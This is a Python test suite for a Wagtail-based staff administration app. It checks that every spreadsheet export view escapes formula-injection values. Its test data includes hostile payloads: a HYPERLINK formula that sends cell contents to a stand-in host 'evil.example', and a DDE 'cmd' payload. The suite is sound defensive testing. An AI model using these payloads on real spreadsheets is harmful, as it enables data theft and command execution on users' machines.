"""Wagtail's list exports (``?export=csv`` / ``?export=xlsx``) are formula-safe (issue 8, hole 6).

The class-level test walks the URLconf: every view that can export (a ``SpreadsheetExportMixin``)
must escape cells and headings exactly like the import/export screens
(``lms.core.imports.cells.escape_formula``), so a listing added later, or a view that writes its
own rows, cannot slip through. The HTTP tests export real listings with hostile values.
"""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group
from django.contrib.contenttypes.models import ContentType
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import Workbook, load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.views import SubmissionsListView
from wagtail.models import ModelLogEntry

from lms.core.exports import formula_safe
from lms.core.imports.cells import FORMULA_TRIGGERS, escape_formula
from lms.people.models import OPD, Employee, EmployeeType, OPDType, Position
from lms.users.models import User
from lms.users.roles import Role
from tests.factories.people import pns_nip

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+62 811",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted once",
]
HARMLESS = ["Dinas Kesehatan", "", "1.01", "a=b", "Budi, S.Kom."]


def _walk(resolver: URLResolver, prefix: str = ""):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _walk(pattern, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), pattern.callback


def _view_class(callback):
    while callback is not None:
        view_class = getattr(callback, "view_class", None)
        if view_class is not None:
            return view_class, getattr(callback, "view_initkwargs", {})
        callback = getattr(callback, "__wrapped__", None)
    return None, {}


def export_views() -> dict[str, tuple[type, dict]]:
    """route -> (view class, as_view kwargs) for every URL whose view can export, plus the form
    submissions view (routed through a function that asks the form page for its class)."""
    views = {}
    for route, callback in _walk(get_resolver()):
        view_class, initkwargs = _view_class(callback)
        if view_class is not None and issubclass(view_class, SpreadsheetExportMixin):
            views[route] = (view_class, initkwargs)
    views["admin/forms/submissions/<int:page_id>/"] = (SubmissionsListView, {})
    return views


def test_the_walk_finds_the_listings_that_export():
    views = export_views()
    routes = {route for route, (_cls, kwargs) in views.items() if kwargs.get("list_export")}
    # The project's own listings with a "Download CSV" button, and Wagtail's reports.
    for expected in ("admin/pegawai/", "admin/opd/", "admin/jabatan/"):
        assert expected in routes, sorted(routes)
    assert "admin/reports/site-history/" in views
    assert len(views) > 20


def test_escape_is_the_import_engines_and_is_not_applied_twice():
    for value in HOSTILE:
        assert formula_safe(value) == escape_formula(value) == "'" + value
    for value in HARMLESS:
        assert formula_safe(value) == value
    assert formula_safe(-5) == -5 and formula_safe(None) is None
    assert {value[:1] for value in HOSTILE[:6]} == set(FORMULA_TRIGGERS)


@pytest.mark.parametrize("route", sorted(export_views()))
def test_every_export_view_escapes_cells_and_headings(route):
    view_class, initkwargs = export_views()[route]
    view = view_class(**initkwargs)
    view.export_headings = {"cell": "=HEADING()"}
    values = HOSTILE + HARMLESS

    lines = [
        view.write_csv_row(csv.DictWriter(_Echo(), fieldnames=["cell"]), {"cell": value})
        for value in values
    ]
    read = [row[0] if row else "" for row in csv.reader(io.StringIO("".join(lines)))]
    assert read == [escape_formula(value) for value in values], route

    sheet = Workbook(write_only=True).create_sheet()
    cells = [next(iter(view.generate_xlsx_row(sheet, {"cell": value}))) for value in values]
    assert [cell.value for cell in cells] == [escape_formula(value) for value in values], route
    assert all(cell.data_type != "f" for cell in cells)

    assert view.get_heading(Employee.objects.none(), "cell") == "'=HEADING()", route


class _Echo:
    def write(self, value):
        return value


# --- Over HTTP --------------------------------------------------------------------------------


@pytest.fixture
def hostile_org(db):
    """An OPD, a position and an employee whose texts are formulas; a BKPSDM officer."""
    opd = OPD.objects.create(code="=1+1", name='=HYPERLINK("http://evil/")', type=OPDType.DINAS)
    Position.objects.create(code="@POS", name="+Pengadministrasi", jenis_jabatan="pelaksana")
    employee = Employee(
        nip=pns_nip(7, gender=2),
        name="@SUM(A1:A9)",
        gelar_depan="-",
        gender="P",
        employee_type=EmployeeType.PNS,
        golongan="III/a",
        opd=opd,
        email="ani@contoh.go.id",
    )
    Employee.objects.bulk_create([employee])  # stored as given, like an import does
    officer = User.objects.create_user(username="bkpsdm.export@contoh.go.id", nip=pns_nip(8))
    officer.groups.add(Group.objects.get(name=Role.BKPSDM))
    client = Client()
    client.force_login(officer)
    return client


def _csv_cells(response) -> set[str]:
    assert response.status_code == 200, response.status_code
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return {cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row}


def _xlsx_cells(response) -> set[str]:
    assert response.status_code == 200, response.status_code
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return {str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None}


@pytest.mark.parametrize(
    ("url", "hostile"),
    [
        ("/admin/pegawai/", ["@SUM(A1:A9)", "-"]),
        ("/admin/opd/", ["=1+1", '=HYPERLINK("http://evil/")']),
        ("/admin/jabatan/", ["@POS", "+Pengadministrasi"]),
    ],
)
def test_admin_listing_exports_escape_formulas(hostile_org, url, hostile):
    csv_cells = _csv_cells(hostile_org.get(url, {"export": "csv"}))
    xlsx_cells = _xlsx_cells(hostile_org.get(url, {"export": "xlsx"}))
    for value in hostile:
        assert "'" + value in csv_cells, (url, value, csv_cells)
        assert value not in csv_cells
        assert "'" + value in xlsx_cells, (url, value, xlsx_cells)
        assert value not in xlsx_cells


def test_wagtail_site_history_export_escapes_formulas(db):
    admin = User.objects.create_superuser(username="root@contoh.go.id", password="x")
    ModelLogEntry.objects.create(
        content_type=ContentType.objects.get_for_model(OPD),
        label="=cmd|' /C calc'!A0",
        action="wagtail.create",
        object_id="1",
        timestamp=datetime.datetime.now(datetime.UTC),
        user=admin,
    )
    client = Client()
    client.force_login(admin)
    cells = _csv_cells(client.get("/admin/reports/site-history/", {"export": "csv"}))
    assert "'=cmd|' /C calc'!A0" in cells
    assert "=cmd|' /C calc'!A0" not in cells
